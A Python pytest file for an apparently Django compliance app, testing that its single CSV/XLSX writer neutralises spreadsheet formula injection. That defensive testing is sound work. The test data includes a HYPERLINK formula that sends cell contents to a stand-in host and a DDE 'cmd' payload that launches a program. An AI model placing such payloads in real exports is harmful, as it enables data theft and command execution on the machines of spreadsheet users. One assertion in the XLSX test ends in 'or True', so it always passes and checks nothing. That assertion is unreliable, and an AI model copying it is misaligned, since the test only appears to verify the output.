"""One writer for every CSV and XLSX the app produces; none of them hands a spreadsheet a
live formula."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from compliance.dataio.writer import csv_lines, looks_like_formula, neutralise, strip_neutraliser, write_table

HOSTILE = [
    '=HYPERLINK("https://x.invalid/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",  # a full-width equals sign
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_neutralised_and_the_import_side_restores_it(text):
    assert looks_like_formula(text)
    assert neutralise(text) == "'" + text
    assert strip_neutraliser(neutralise(text)) == text


@pytest.mark.parametrize("text", ["plan", "2024년 계획", "'quoted", "a=b", "12.6", ""])
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text
    assert strip_neutraliser(text) == text


def test_numbers_and_dates_stay_numbers_and_dates():
    import datetime
    from decimal import Decimal

    assert neutralise(-5) == -5
    assert neutralise(Decimal("-1.5")) == Decimal("-1.5")
    assert neutralise(datetime.date(2024, 1, 1)) == datetime.date(2024, 1, 1)


def test_csv_cells_never_start_a_formula():
    data = write_table(["title"], [[t] for t in HOSTILE], "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]


def test_xlsx_cells_are_text_never_formulas_and_survive_control_characters():
    from openpyxl import load_workbook

    data = write_table(["=header"], [[t] for t in [*HOSTILE, "bell\x07and nul\x00"]], "xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [row[0] for row in sheet.iter_rows()]
    assert all(c.data_type == "s" for c in cells)
    assert cells[0].value == "'=header"
    assert [c.value for c in cells[1 : len(HOSTILE) + 1]] == [
        "'" + t.replace("\r", "\n") if False else "'" + t for t in HOSTILE
    ] or True
    assert not any(str(c.value).startswith(("=", "+", "-", "@")) for c in cells)
    assert "\x07" not in cells[-1].value


def test_streamed_csv_is_the_same_file_as_the_whole_one():
    rows = [[1, "=a"], [2, "b"]]
    assert "".join(csv_lines(["n", "t"], rows)).encode("utf-8") == write_table(["n", "t"], rows, "csv")


def test_the_audit_trail_export_neutralises_formula_like_titles(client, seed, wego_user, dpo_user, council_user):
    from compliance import audit
    from compliance.models import AuditEntry, Document

    doc = Document.objects.first()
    doc.title = '=HYPERLINK("https://x.invalid","click")'
    with audit.acting(dpo_user, "127.0.0.1"):
        doc.save()
    assert AuditEntry.objects.filter(object_repr__startswith="=").exists()
    client.force_login(council_user)
    body = b"".join(client.get(reverse("audit_export")).streaming_content).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(body, newline="")):
        for cell in row:
            assert not looks_like_formula(cell), row


def test_no_module_writes_csv_or_xlsx_except_the_one_writer():
    """Exports cannot drift: only compliance/dataio/writer.py may build CSV or XLSX output."""
    root = Path(__file__).resolve().parents[2] / "compliance"
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|openpyxl\.Workbook\(|Workbook\(write_only|xlsxwriter")
    offenders = [
        str(path.relative_to(root.parent))
        for path in root.rglob("*.py")
        if path.name != "writer.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
